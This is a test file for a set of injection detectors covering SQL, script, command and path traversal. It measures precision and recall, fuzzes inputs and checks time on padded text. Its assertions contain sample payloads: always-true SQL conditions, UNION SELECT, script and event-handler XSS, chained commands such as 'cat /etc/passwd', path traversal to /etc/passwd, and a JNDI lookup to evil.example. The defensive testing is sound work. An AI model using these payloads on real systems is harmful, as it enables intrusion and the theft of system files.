// The injection detectors against collections of attacks and look-alikes, with their precision and recall; and how they behave on text
// that was made to slow them down. The held-out collections were written after the detectors and are not what these were tuned on:
// when they were first run, recall was 0.80 (SQL), 1.00 (script), 0.90 (command) and 0.98 (path) at precision 1.00 each.
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Event, JsonValue } from '../../../src-main/engine/event.ts';
import { injectionsIn } from '../../../src-main/engine/indicators/client-texts.ts';
import { detectCommandInjection } from '../../../src-main/engine/indicators/command-injection.ts';
import { detectPathTraversal } from '../../../src-main/engine/indicators/path-traversal.ts';
import { detectScriptInjection } from '../../../src-main/engine/indicators/script-injection.ts';
import { detectSqlInjection } from '../../../src-main/engine/indicators/sql-injection.ts';

const detectors = {
  sql: detectSqlInjection,
  script: detectScriptInjection,
  command: detectCommandInjection,
  path: detectPathTraversal,
};
type Kind = keyof typeof detectors;
const kinds = Object.keys(detectors) as Kind[];

function lines(name: string): string[] {
  const text = readFileSync(new URL(`../../fixtures/events/${name}.txt`, import.meta.url), 'utf8');
  return text.split('\n').filter((line) => line !== '');
}

function measure(kind: Kind, folder: string) {
  const attacks = lines(`${folder}${kind}-attacks`);
  const harmless = lines(`${folder}${kind}-harmless`);
  const missed = attacks.filter((text) => detectors[kind](text) === undefined);
  const accused = harmless.filter((text) => detectors[kind](text) !== undefined);
  const found = attacks.length - missed.length;
  const recall = found / attacks.length;
  const precision = found / (found + accused.length);
  process.stdout.write(
    `${`${folder}${kind}`.padEnd(18)} ${attacks.length} attacks, ${harmless.length} look-alikes: precision ${precision.toFixed(3)}, recall ${recall.toFixed(3)}\n`,
  );
  return { attacks, harmless, missed, accused, recall, precision };
}

describe.each(kinds)('%s', (kind) => {
  it('finds every attack of its collection and accuses no look-alike', () => {
    const { attacks, harmless, missed, accused } = measure(kind, '');
    expect(new Set(attacks).size).toBeGreaterThanOrEqual(150);
    expect(new Set(harmless).size).toBeGreaterThanOrEqual(new Set(attacks).size);
    expect({ missed, accused }).toEqual({ missed: [], accused: [] });
  });

  it('finds most of the held-out collection', () => {
    const { attacks, harmless, recall, precision } = measure(kind, 'held-out/');
    expect(attacks.length).toBe(40);
    expect(harmless.length).toBeGreaterThanOrEqual(40);
    expect(precision).toBeGreaterThanOrEqual(0.97);
    expect(recall).toBeGreaterThanOrEqual(0.8);
  });

  it('is quiet on the look-alikes of the others', () => {
    const others = kinds.filter((other) => other !== kind).flatMap((other) => lines(`${other}-harmless`));
    const accused = others.filter((text) => detectors[kind](text) !== undefined);
    expect(accused.length / others.length).toBeLessThan(0.02);
  });

  it('takes any text', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'binary', maxLength: 300 }),
          fc
            .array(
              fc.constantFrom(
                ...lines(`${kind}-attacks`)
                  .flatMap((text) => text.split(/(?=[^\w])/))
                  .slice(0, 400),
              ),
              {
                maxLength: 60,
              },
            )
            .map((parts) => parts.join('')),
        ),
        (text) => {
          const found = detectors[kind](text);
          expect(found === undefined || typeof found === 'string').toBe(true);
        },
      ),
      { numRuns: 500 },
    );
  });
});

function eventWith(details: Record<string, JsonValue>): Event {
  return { id: 'e', timeMs: 0, source: 's', event_type: 'api_call', details };
}

const mebibyte = 1024 * 1024;
const units = [
  "'",
  '"\\',
  "' or ",
  '/*',
  '(',
  '%27',
  "') ",
  "'a'='a' and ",
  '<',
  '<a ',
  '<a b="',
  '<img src=x onerro',
  'on=',
  ' onload =',
  'javascript',
  'java\tscript:',
  '&#106;',
  '{{',
  '${',
  '${${',
  '`',
  ';',
  '; cat ',
  '$(',
  '| ls ',
  '\n',
  '../',
  '..%2f',
  '%252e',
  '....//',
  '%',
  '\\u003c',
  '+ADw-',
  '() {',
  'a,',
  '{a,',
  ' ',
  'x',
];

it('looks through a mebibyte of anything in linear time', () => {
  function cpuMs(text: string): number {
    const started = process.cpuUsage();
    injectionsIn(eventWith({ body: text }));
    const { user, system } = process.cpuUsage(started);
    return (user + system) / 1000;
  }
  const slow: string[] = [];
  for (const unit of units) {
    const half = cpuMs(unit.repeat(mebibyte / 2 / unit.length));
    const text = unit.repeat(mebibyte / unit.length);
    // The better of two: a collection of garbage is not the detectors' doing.
    const whole = Math.min(cpuMs(text), cpuMs(`${text} `));
    // Twice as much text may take twice as long, and some for the clock; never four times.
    if (whole > 250 && whole > half * 3.5)
      slow.push(`${JSON.stringify(unit)}: ${half.toFixed(0)} then ${whole.toFixed(0)} ms`);
    if (whole > 5_000) slow.push(`${JSON.stringify(unit)}: ${whole.toFixed(0)} ms`);
  }
  expect(slow).toEqual([]);
}, 120_000);

it('finds an attack behind half a mebibyte of padding, and across the seam of two pieces', () => {
  for (const length of [mebibyte / 2, 16_384 - 5, 14_336 - 5, 14_336, 16_384]) {
    const padding = 'lorem ipsum '.repeat(length).slice(0, length);
    expect(injectionsIn(eventWith({ body: `${padding}<script>alert(1)</script>` })).script).toBe('script element');
    expect(injectionsIn(eventWith({ body: `${padding}' UNION SELECT 1,2,3--` })).sql).toBe('union select');
  }
});

it('looks where clients write, at names of parameters too, and not at messages', () => {
  expect(injectionsIn(eventWith({ parameters: { "x' OR 1=1--": '1' } })).sql).toBe('always-true condition');
  expect(injectionsIn(eventWith({ body: { a: [{ b: '<svg onload=alert(1)>' }] } })).script).toBe('event handler');
  expect(injectionsIn(eventWith({ message: "' OR 1=1--", statement: 'x; cat /etc/passwd' }))).toEqual({});
  expect(injectionsIn({ ...eventWith({}), user_agent: ['$', '{jndi:ldap://evil.example/a}'].join('') }).command).toBe(
    'lookup expression',
  );
});

it('names each kind of injection in one event', () => {
  expect(
    injectionsIn(
      eventWith({
        parameters: {
          a: "1' OR '1'='1",
          b: '<img src=x onerror=alert(1)>',
          c: '127.0.0.1; id',
          d: '../../../etc/passwd',
        },
      }),
    ),
  ).toEqual({
    sql: 'always-true condition',
    script: 'event handler',
    command: 'chained command',
    path: 'climbs to a system file',
  });
});
